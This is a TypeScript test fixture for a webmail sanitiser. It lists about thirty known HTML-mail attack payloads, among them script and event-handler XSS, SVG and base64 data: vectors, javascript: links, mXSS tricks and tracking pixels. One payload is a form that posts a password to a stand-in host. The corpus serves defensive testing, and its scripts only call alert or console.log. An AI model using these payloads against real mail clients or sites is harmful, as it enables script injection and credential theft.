/**
 * Known ways HTML mail attacks a webmail: script, event handlers, SVG animation and <use>, SVG
 * filters loading images (<feImage>), CSS @import and url(), javascript: and data: links, meta
 * refresh, <base>, forms, frames, plugin content, parser-differential (mXSS) tricks and remote
 * images used as tracking pixels. The sanitiser's unit test runs each one, and the browser test
 * opens a message carrying all of them (the demo seed puts it in guide@'s Inbox).
 *
 * Every script payload calls alert() or console.log() with "XSS-", and every remote resource
 * points at TRACKER_HOST, so a test can tell at once if anything ran or loaded.
 */
export const TRACKER_HOST = "tracker.example.net";
const T = `https://${TRACKER_HOST}`;

/** The remote image a reader may choose to load ("Show images"). */
export const CORPUS_REMOTE_IMAGE = `${T}/pixel.png`;
/** Text the sanitised message still shows. */
export const CORPUS_VISIBLE_TEXT = "This message carries known mail attacks";

export const XSS_CORPUS: Array<{ name: string; html: string }> = [
  { name: "script element", html: `<script>alert('XSS-script')</script>` },
  { name: "img onerror", html: `<img src="x" onerror="alert('XSS-onerror')">` },
  {
    name: "svg animate onbegin",
    html: `<svg><animate onbegin="alert('XSS-animate')" attributeName="x" dur="1s"/></svg>`,
  },
  {
    name: "svg animate href to javascript:",
    html:
      `<svg><a><animate attributeName="href" values="javascript:alert('XSS-animate-href')"/><text x="20" ` +
      `y="20">click</text></a></svg>`,
  },
  {
    name: "svg use data: URL",
    html:
      `<svg><use href="data:image/svg+xml;base64,` +
      `PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2Ug` +
      `aHJlZj0nMScgb25lcnJvcj0nYWxlcnQoIlhTUy11c2UiKScvPjwvc3ZnPg==` +
      `#x"/></svg>`,
  },
  { name: "svg script", html: `<svg><script>console.log('XSS-svg-script')</script></svg>` },
  {
    name: "svg feImage",
    html:
      `<svg><filter id="f"><feImage href="${T}/feimage.png"/></filter><rect filter="url(#f)" width="10" ` +
      `height="10"/></svg>`,
  },
  {
    name: "style @import and url()",
    html: `<style>@import url("${T}/import.css"); body { background: url("${T}/style-bg.png") }</style>`,
  },
  {
    name: "inline style url()",
    html: `<div style="background-image: url('${T}/inline-bg.png'); color: red">styled</div>`,
  },
  { name: "inline style escaped url()", html: `<div style="background: u\\72l(${T}/escaped-bg.png)">escaped</div>` },
  { name: "CSS expression", html: `<div style="width: expression(alert('XSS-expression'))">expression</div>` },
  { name: "javascript: link", html: `<a href="javascript:alert('XSS-link')">javascript link</a>` },
  { name: "javascript: link with tab entity", html: `<a href="jav&#x09;ascript:alert('XSS-link-tab')">tab link</a>` },
  { name: "javascript: link mixed case", html: `<a href="JaVaScRiPt:console.log('XSS-link-case')">case link</a>` },
  {
    name: "data: link",
    html: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTLWRhdGEnKTwvc2NyaXB0Pg==">data link</a>`,
  },
  {
    name: "event handlers",
    html: `<div onclick="alert('XSS-onclick')" onmouseover="alert('XSS-onmouseover')">hover me</div>`,
  },
  { name: "body onload", html: `<body onload="alert('XSS-onload')">` },
  {
    name: "details ontoggle",
    html: `<details open ontoggle="alert('XSS-ontoggle')"><summary>details</summary></details>`,
  },
  {
    name: "meta refresh to javascript:",
    html: `<meta http-equiv="refresh" content="0;url=javascript:alert('XSS-refresh')">`,
  },
  { name: "meta refresh to a site", html: `<meta http-equiv="refresh" content="1;url=${T}/refresh">` },
  { name: "base href", html: `<base href="${T}/"><a href="relative-link">relative link</a>` },
  {
    name: "form",
    html:
      `<form action="${T}/steal" method="post"><input name="password" type="password"><button ` +
      `formaction="${T}/steal2">Log in</button></form>`,
  },
  { name: "iframe", html: `<iframe src="${T}/frame" srcdoc="<script>alert('XSS-srcdoc')</script>"></iframe>` },
  { name: "object and embed", html: `<object data="${T}/object.swf"></object><embed src="${T}/embed.swf">` },
  { name: "link stylesheet", html: `<link rel="stylesheet" href="${T}/link.css">` },
  { name: "video poster", html: `<video poster="${T}/poster.png"><source src="${T}/video.mp4"></video>` },
  {
    name: "table background",
    html: `<table background="${T}/table-bg.png"><tr><td background="${T}/td-bg.png">cell</td></tr></table>`,
  },
  { name: "img srcset", html: `<img srcset="${T}/srcset.png 1x" alt="srcset">` },
  { name: "protocol-relative image", html: `<img src="//${TRACKER_HOST}/protocol-relative.png" alt="relative">` },
  {
    name: "svg image as data URL",
    html: `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KCdYU1Mtc3ZnLWRhdGEnKSIvPg==" alt="svg data">`,
  },
  {
    name: "mXSS through math and style",
    html:
      `<math><mtext><table><mglyph><style><img src=x ` +
      `onerror="alert('XSS-mxss')"></style></mglyph></table></mtext></math>`,
  },
  {
    name: "mXSS through noscript",
    html: `<noscript><p title="</noscript><img src=x onerror=alert('XSS-noscript')>"></noscript>`,
  },
  { name: "tracking pixel", html: `<img src="${CORPUS_REMOTE_IMAGE}" alt="remote image" width="1" height="1">` },
];

/** The whole corpus as one HTML mail body. */
export function corpusMailHtml(): string {
  return (
    `<p>${CORPUS_VISIBLE_TEXT}; Mailroom shows it without running or loading any of them.</p>` +
    XSS_CORPUS.map((c) => `<section><h3>${c.name}</h3>${c.html}</section>`).join("\n")
  );
}
